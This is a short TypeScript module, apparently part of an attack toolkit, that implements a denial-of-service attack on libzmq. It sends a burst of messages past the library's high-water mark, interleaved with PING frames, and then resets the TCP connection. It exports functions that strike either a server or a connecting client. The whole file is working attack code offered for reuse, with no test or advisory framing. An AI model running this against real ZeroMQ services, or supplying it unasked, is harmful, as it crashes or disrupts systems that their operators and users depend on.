/** What ends libzmq: more messages than its high-water mark, then a PING, then a reset. */

import { Buffer } from "node:buffer";
import { message, PING, type Tcp, Wire } from "./attack_wire.ts";

/** Up to its mark, and more: where it stops depends on how fast the program takes them. */
const [MARK, MORE, EACH] = [1_000, 100, 20];
const messages = (n: number) => Buffer.concat(Array.from({ length: n }, () => message("zg2", "")));
const BURST: Uint8Array = Buffer.concat([
  messages(MARK),
  ...Array.from({ length: MORE }, () => Buffer.concat([messages(EACH), PING])),
]);

async function strike(wire: Wire): Promise<void> {
  await wire.tcp.write(BURST);
  wire.tcp.reset();
}

/** Does it to a server, once; false when there was no connection. */
export async function strikeServer(address: string, from?: string): Promise<boolean> {
  const wire = await Wire.open(address, from ? { from } : {});
  if (wire) await strike(wire);
  return wire !== undefined;
}

/** Does it to a client that came to us; false when it went before. */
export async function strikeClient(tcp: Tcp): Promise<boolean> {
  const wire = await Wire.accept(tcp);
  if (wire) await strike(wire);
  return wire !== undefined;
}
